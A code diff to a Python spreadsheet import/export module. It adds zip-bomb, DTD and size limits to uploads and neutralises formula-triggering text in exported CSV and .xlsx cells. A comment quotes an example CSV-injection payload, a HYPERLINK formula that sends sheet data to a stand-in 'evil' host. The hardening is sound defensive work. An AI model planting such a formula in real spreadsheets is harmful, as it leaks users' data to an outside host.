@@ -28,25 +28,38 @@ The API, in the order a caller uses it::
 
 from __future__ import annotations
 
+import csv
 import enum
 import io
 import re
 import zipfile
 from collections.abc import Callable, Iterable, Sequence
 from dataclasses import dataclass, field
-from decimal import Decimal, InvalidOperation
+from decimal import Decimal
 from typing import IO, Any
+from xml.etree.ElementTree import ParseError
 
 import numpy as np
+import openpyxl
 import pandas as pd
+from defusedxml import DefusedXmlException
 from django.utils.translation import gettext as _
+from openpyxl.styles import Font
+
+from common.numbers import MAX_WHOLE_NUMBER, NumberRefused, parse_decimal, parse_whole_number
+from common.xlsx_guard import XlsxLimits, XlsxRefused, inspect_xlsx
 
 ROW = "row"
-# Whole numbers above this are refused: beyond any real annual quantity, and it keeps
-# values inside PostgreSQL's bigint.
-MAX_WHOLE_NUMBER = 10**12
 CSV_ENCODINGS = ("utf-8-sig", "gb18030")  # GB18030 is a superset of GBK and GB2312
 SUFFIXES = (".csv", ".xlsx")
+# Limits checked while a file is read, before it is parsed whole (common.xlsx_guard for
+# .xlsx): a national collated demand file has a million lines of about ten columns and
+# unpacks to a few hundred MB; nothing real comes near these.
+MAX_ROWS_ANY = 2_000_000  # data rows, where the caller sets no lower limit
+MAX_COLUMNS = 100
+MAX_CELLS = 30_000_000
+MAX_UNCOMPRESSED_BYTES = 1024 * 1024 * 1024
+MAX_COMPRESSION_RATIO = 100  # spreadsheets compress 5 to 30 times; zip bombs thousands
 
 
 class ColumnKind(enum.Enum):
@@ -165,7 +178,7 @@ def _normalise_header(text: object) -> str:
     return value
 
 
-def _read_csv(data: bytes) -> pd.DataFrame:
+def _read_csv(data: bytes, max_rows: int) -> pd.DataFrame:
     if b"\x00" in data[:4096]:
         raise SpreadsheetRefused(
             _("The file is not a readable CSV file: save it as CSV (UTF-8 or GB18030) or .xlsx.")
@@ -186,14 +199,21 @@ def _read_csv(data: bytes) -> pd.DataFrame:
         )
     if not text.strip():
         raise SpreadsheetRefused(_("The file is empty."))
+    # The header says how wide the sheet is: a header of 100,000 columns is refused
+    # before pandas builds a column for each (a data row wider than the header is a
+    # parser error). Rows are read up to one past the limit, never all of them.
+    header = next(csv.reader(io.StringIO(text[: text.find("\n") + 1 or len(text)])), [])
+    if len(header) > MAX_COLUMNS:
+        raise SpreadsheetRefused(_columns_refused(MAX_COLUMNS))
     try:
-        return pd.read_csv(
+        frame = pd.read_csv(
             io.StringIO(text),
             dtype=str,
             keep_default_na=False,
             na_filter=False,
             skip_blank_lines=False,  # keep positions so row numbers match the file
             engine="c",
+            nrows=max_rows + 1,
         )
     except pd.errors.EmptyDataError as exc:
         raise SpreadsheetRefused(_("The file is empty.")) from exc
@@ -201,9 +221,73 @@ def _read_csv(data: bytes) -> pd.DataFrame:
         raise SpreadsheetRefused(
             _("The CSV file could not be read: %(detail)s") % {"detail": str(exc)[:200]}
         ) from exc
+    if len(frame) > max_rows:
+        raise SpreadsheetRefused(_rows_refused(max_rows))
+    return frame
 
 
-def _read_xlsx(data: bytes) -> pd.DataFrame:
+def _rows_refused(limit: int) -> str:
+    return _("The file has more than %(limit)s data rows; at most %(limit)s are accepted here.") % {
+        "limit": f"{limit:,}"
+    }
+
+
+def _columns_refused(limit: int) -> str:
+    return _(
+        "A row of the file has more than %(limit)s columns; at most %(limit)s are accepted."
+    ) % {"limit": f"{limit:,}"}
+
+
+def _xlsx_refused(refusal: XlsxRefused) -> str:
+    """The message for a workbook ``common.xlsx_guard`` refused."""
+    values = refusal.values
+    limit = values.get("limit")
+    shown = (
+        ""
+        if not isinstance(limit, int)
+        else human_size(limit)
+        if refusal.reason == "uncompressed"
+        else f"{limit:,}"
+    )
+    messages = {
+        "dtd": _(
+            "The workbook holds an XML document type declaration (DTD) in %(part)s, which "
+            "spreadsheets never need; it is refused for safety. Save it again from your "
+            "spreadsheet program."
+        ),
+        "xml": _(
+            "The workbook's part %(part)s is not well-formed XML: save it again from your "
+            "spreadsheet program."
+        ),
+        "ratio": _(
+            "The workbook is compressed %(ratio)s to 1 (at most %(limit)s to 1 is accepted): "
+            "it may be a zip bomb. Save it again from your spreadsheet program."
+        ),
+        "uncompressed": _("The workbook unpacks to more than %(limit)s; it is refused."),
+        "members": _("The workbook has %(count)s parts; at most %(limit)s are accepted."),
+        "cells": _("The file has more than %(limit)s cells; at most %(limit)s are accepted."),
+    }
+    if refusal.reason == "rows":
+        return _rows_refused(int(values["limit"]))  # type: ignore[call-overload]
+    if refusal.reason == "columns":
+        return _columns_refused(int(values["limit"]))  # type: ignore[call-overload]
+    if refusal.reason in messages:
+        return messages[refusal.reason] % {**values, "limit": shown}
+    return _("The file is not a readable .xlsx workbook: save it again from your spreadsheet.")
+
+
+def _read_xlsx(data: bytes, max_rows: int) -> pd.DataFrame:
+    limits = XlsxLimits(
+        max_rows=max_rows,
+        max_columns=MAX_COLUMNS,
+        max_cells=MAX_CELLS,
+        max_uncompressed_bytes=MAX_UNCOMPRESSED_BYTES,
+        max_compression_ratio=MAX_COMPRESSION_RATIO,
+    )
+    try:
+        inspect_xlsx(data, limits)
+    except XlsxRefused as refusal:
+        raise SpreadsheetRefused(_xlsx_refused(refusal)) from refusal
     try:
         frame = pd.read_excel(
             io.BytesIO(data),
@@ -213,7 +297,14 @@ def _read_xlsx(data: bytes) -> pd.DataFrame:
             na_filter=False,
             engine="openpyxl",
         )
-    except (zipfile.BadZipFile, KeyError, ValueError, OSError) as exc:
+    except (
+        zipfile.BadZipFile,
+        KeyError,
+        ValueError,
+        OSError,
+        ParseError,
+        DefusedXmlException,
+    ) as exc:
         raise SpreadsheetRefused(
             _("The file is not a readable .xlsx workbook: save it again from your spreadsheet.")
         ) from exc
@@ -223,13 +314,16 @@ def _read_xlsx(data: bytes) -> pd.DataFrame:
     return frame
 
 
-def read_frame(data: bytes, *, filename: str) -> pd.DataFrame:
-    """Read every cell as text. Raises SpreadsheetRefused for unreadable files."""
+def read_frame(data: bytes, *, filename: str, max_rows: int | None = None) -> pd.DataFrame:
+    """Read every cell as text. Raises SpreadsheetRefused for unreadable files, and for
+    files over the limits (rows, columns, cells; for .xlsx the unpacked size, the
+    compression ratio, a DTD) as soon as reading tells, before parsing them whole."""
     suffix = "." + filename.rsplit(".", 1)[-1].lower() if "." in filename else ""
+    rows = max_rows if max_rows is not None else MAX_ROWS_ANY
     if suffix == ".csv":
-        frame = _read_csv(data)
+        frame = _read_csv(data, rows)
     elif suffix == ".xlsx":
-        frame = _read_xlsx(data)
+        frame = _read_xlsx(data, rows)
     else:
         raise SpreadsheetRefused(
             _("Unknown file type “%(name)s”: upload a .xlsx or .csv file.") % {"name": filename}
@@ -290,44 +384,30 @@ def map_unique(values: pd.Series, function: Callable[[str], str]) -> pd.Series:
     return pd.Series(mapped[codes] if len(mapped) else [], index=values.index, dtype=object)
 
 
-def _clean_number(text: str) -> str:
-    # Thousands separators are common in Chinese spreadsheets ("1,200", "1，200").
-    return text.strip().replace(",", "").replace("，", "")
-
-
 def _convert_positive_int(
     raw: pd.Series, rows: pd.Series, label: str, allow_blank: bool
 ) -> tuple[pd.Series, list[RowError]]:
+    """Whole numbers above zero, by ``common.numbers``' policy. Plain ASCII digits (nearly
+    every cell of a large file) are converted in C; only the other cells go through
+    ``parse_whole_number`` one by one."""
     errors: list[RowError] = []
     blank = raw == ""
     if not allow_blank:
         errors += _errors_where(blank, rows, raw, label, _("a value is required."))
-    # Parse in C first; only the few cells that fail are cleaned and parsed again.
-    numbers = pd.to_numeric(raw.where(~blank, None), errors="coerce")
-    retry = numbers.isna() & ~blank
-    if retry.any():
-        numbers[retry] = pd.to_numeric(raw[retry].map(_clean_number), errors="coerce")
-    not_number = ~blank & numbers.isna()
-    errors += _errors_where(not_number, rows, raw, label, _("“%(value)s” is not a number."))
-    ok = ~blank & ~not_number
-    numbers_f = numbers.astype("float64")
-    finite = np.isfinite(numbers_f.fillna(0))
-    errors += _errors_where(ok & ~finite, rows, raw, label, _("“%(value)s” is not a number."))
-    ok &= finite
-    fractional = ok & (numbers_f % 1 != 0)
-    errors += _errors_where(fractional, rows, raw, label, _("“%(value)s” is not a whole number."))
-    ok &= ~fractional
-    negative = ok & (numbers_f < 0)
-    errors += _errors_where(
-        negative, rows, raw, label, _("“%(value)s” is negative; it must be greater than zero.")
-    )
-    zero = ok & (numbers_f == 0)
-    errors += _errors_where(zero, rows, raw, label, _("must be greater than zero."))
-    too_large = ok & (numbers_f > MAX_WHOLE_NUMBER)
-    errors += _errors_where(too_large, rows, raw, label, _("“%(value)s” is too large."))
-    good = ok & ~negative & ~zero & ~too_large
+    plain = raw.str.fullmatch(r"[0-9]{1,13}").fillna(False).astype(bool)
     result = pd.Series(pd.NA, index=raw.index, dtype="Int64")
-    result[good] = numbers_f[good].astype("int64")
+    numbers = pd.to_numeric(raw[plain], errors="coerce").astype("int64")
+    zero = numbers == 0
+    errors += _errors_where(zero, rows[plain], raw[plain], label, _("must be greater than zero."))
+    large = numbers > MAX_WHOLE_NUMBER
+    errors += _errors_where(large, rows[plain], raw[plain], label, _("“%(value)s” is too large."))
+    good = numbers[~zero & ~large]
+    result[good.index] = good
+    for index in raw.index[~plain & ~blank]:
+        try:
+            result[index] = parse_whole_number(raw[index])
+        except NumberRefused as refused:
+            errors.append(RowError(int(rows[index]), label, refused.message))
     return result, errors
 
 
@@ -338,44 +418,17 @@ def _convert_decimal(
     # them exact (no float on the way).
     errors: list[RowError] = []
     out: list[Decimal | None] = []
-    quantum = Decimal(1).scaleb(-places)
     for row, value in zip(rows, raw, strict=True):
-        text = value.replace(",", "").replace("，", "")
-        if text == "":
+        if value.strip() == "":
             if not allow_blank:
                 errors.append(RowError(int(row), label, _("a value is required.")))
             out.append(None)
             continue
         try:
-            number = Decimal(text)
-        except InvalidOperation:
-            number = None
-        if number is None or not number.is_finite():
-            errors.append(
-                RowError(int(row), label, _("“%(value)s” is not a number.") % {"value": value})
-            )
+            out.append(parse_decimal(value, places=places))
+        except NumberRefused as refused:
+            errors.append(RowError(int(row), label, refused.message))
             out.append(None)
-        elif number <= 0:
-            errors.append(
-                RowError(
-                    int(row),
-                    label,
-                    _("“%(value)s” must be greater than zero.") % {"value": value},
-                )
-            )
-            out.append(None)
-        elif number != number.quantize(quantum):
-            errors.append(
-                RowError(
-                    int(row),
-                    label,
-                    _("“%(value)s” has more than %(places)s decimal places.")
-                    % {"value": value, "places": places},
-                )
-            )
-            out.append(None)
-        else:
-            out.append(number.quantize(quantum))
     return pd.Series(out, index=raw.index, dtype=object), errors
 
 
@@ -393,8 +446,12 @@ def _convert_bool(raw: pd.Series, rows: pd.Series, label: str) -> tuple[pd.Serie
     return is_true, errors
 
 
+def _strip(text: str) -> str:
+    return unneutralise_text(text.strip())
+
+
 def _strip_upper(text: str) -> str:
-    return text.strip().upper()
+    return _strip(text).upper()
 
 
 def convert_frame(
@@ -414,7 +471,7 @@ def convert_frame(
         if column.key not in raw.columns:
             out[column.key] = None if column.kind is not ColumnKind.BOOL else False
             continue
-        function = _strip_upper if column.kind is ColumnKind.CODE else str.strip
+        function = _strip_upper if column.kind is ColumnKind.CODE else _strip
         values = map_unique(raw[column.key].fillna("").astype(str), function)
         if column.kind in (ColumnKind.TEXT, ColumnKind.CODE):
             if not column.allow_blank:
@@ -484,7 +541,7 @@ def read_spreadsheet(
         # held in memory whole.
         data = source.read(max_bytes + 1)
         check_size(len(data), max_bytes=max_bytes)
-    raw = read_frame(data, filename=filename)
+    raw = read_frame(data, filename=filename, max_rows=max_rows)
     mapping = match_columns(raw, columns)
     if raw.empty:
         raise SpreadsheetRefused(_("The file has a header row but no data rows."))
@@ -516,16 +573,99 @@ def template_frame(
     return frame.rename(columns={c.key: c.display_header for c in columns})
 
 
-def write_xlsx(sheets: dict[str, pd.DataFrame]) -> bytes:
-    """A workbook with one sheet per entry (sheet names up to 31 characters)."""
+# --- writing: every exported cell is inert ------------------------------------------------
+
+# A cell whose text starts with one of these is taken for a formula by Excel, LibreOffice
+# and WPS (OWASP, "CSV Injection"): a product named ``=HYPERLINK("http://evil/?"&A2)``
+# would become a live link that sends the sheet's data away. Such text is written with a
+# leading apostrophe, and in .xlsx as a string cell, never as a formula.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_text(value: object) -> object:
+    """The value as an exported cell holds it: text starting with a formula trigger gets
+    a leading ``'``; numbers, dates and other text are left as they are."""
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
+def unneutralise_text(text: str) -> str:
+    """Undo ``neutralise_text`` on text read back from a sheet (a template we wrote and the
+    user filled in): ``'=1+1`` is the model ``=1+1`` again. Other text is unchanged."""
+    if text.startswith("'") and text[1:2] and text[1] in FORMULA_TRIGGERS:
+        return text[1:]
+    return text
+
+
+def neutralise_workbook(workbook: Any) -> None:
+    """Make every cell of an openpyxl workbook inert (see ``FORMULA_TRIGGERS``): text that
+    would be a formula is prefixed with ``'`` and typed as a string. Run on every
+    workbook just before it is saved, whatever built it."""
+    for worksheet in workbook.worksheets:
+        for row in worksheet.iter_rows():
+            for cell in row:
+                value = cell.value
+                if isinstance(value, str) and (
+                    cell.data_type == "f" or value.startswith(FORMULA_TRIGGERS)
+                ):
+                    cell.value = neutralise_text(value)
+                    cell.data_type = "s"
+
+
+def workbook_bytes(workbook: Any) -> bytes:
+    """The workbook's .xlsx bytes, every cell made inert first."""
+    neutralise_workbook(workbook)
     buffer = io.BytesIO()
-    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
-        for name, frame in sheets.items():
-            frame.to_excel(writer, sheet_name=name[:31], index=False)
-            worksheet = writer.sheets[name[:31]]
-            for i, column in enumerate(frame.columns, start=1):
-                width = max([len(str(column))] + [len(str(v)) for v in frame[column].head(200)])
-                worksheet.column_dimensions[worksheet.cell(1, i).column_letter].width = min(
-                    max(10, width * 1.3 + 2), 60
-                )
+    workbook.save(buffer)
     return buffer.getvalue()
+
+
+class _InertCsvWriter:
+    """``csv.writer`` whose every text field is made inert (``neutralise_text``)."""
+
+    def __init__(self, stream: Any, **options: Any) -> None:
+        self._writer = csv.writer(stream, **options)
+
+    def writerow(self, row: Iterable[object]) -> Any:
+        return self._writer.writerow([neutralise_text(v) for v in row])
+
+    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_writer(stream: Any, **options: Any) -> _InertCsvWriter:
+    """A CSV writer for exports: like ``csv.writer``, with every text field made inert."""
+    return _InertCsvWriter(stream, **options)
+
+
+def _plain(value: object) -> object:
+    """A frame's value as openpyxl takes it: None for missing, Python numbers for numpy's."""
+    if value is None or value is pd.NA or value is pd.NaT:
+        return None
+    if isinstance(value, float) and value != value:  # NaN
+        return None
+    if isinstance(value, np.generic):
+        return value.item()
+    return value
+
+
+def write_xlsx(sheets: dict[str, pd.DataFrame]) -> bytes:
+    """A workbook with one sheet per entry (sheet names up to 31 characters), every cell
+    inert (``neutralise_workbook``)."""
+    workbook = openpyxl.Workbook()
+    workbook.remove(workbook.active)
+    for name, frame in sheets.items():
+        worksheet = workbook.create_sheet(name[:31])
+        worksheet.append([str(c) for c in frame.columns])
+        for cell in worksheet[1]:
+            cell.font = Font(bold=True)
+        for record in frame.itertuples(index=False, name=None):
+            worksheet.append([_plain(v) for v in record])
+        for i, column in enumerate(frame.columns, start=1):
+            width = max([len(str(column))] + [len(str(v)) for v in frame[column].head(200)])
+            worksheet.column_dimensions[worksheet.cell(1, i).column_letter].width = min(
+                max(10, width * 1.3 + 2), 60
+            )
+    return workbook_bytes(workbook)
